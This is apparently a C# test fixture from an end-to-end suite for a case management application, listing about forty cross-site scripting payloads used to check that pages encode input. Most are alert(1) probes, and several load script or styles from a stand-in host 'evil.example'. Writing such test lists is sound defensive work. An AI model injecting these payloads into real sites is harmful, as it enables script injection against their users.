namespace CaseManagement.EndToEnd.Tests.Hostile;

/// <summary>What strangers type where a page forgets to encode: tags, attributes, addresses, scripts, styles, templates, words that turn the line.</summary>
internal static class Payloads
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>",
        "' onmouseover=alert(1) autofocus onfocus=alert(1) x='", "\" autofocus onfocus=alert(1) x=\"", "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><script>alert(1)</script></svg>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
        "javascript:alert(1)", "[x](javascript:alert(1))", "![x](x\" onerror=\"alert(1))", "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>", "<div style=\"background:url(//evil.example/x)\">x</div>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>",
        "<template><script>alert(1)</script></template>", "<div hx-get=/sign-out hx-trigger=load>x</div>", "<div data-reload-form onclick=alert(1)>x</div>", "${alert(1)} #{alert(1)} {% alert(1) %}", "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    ];
}
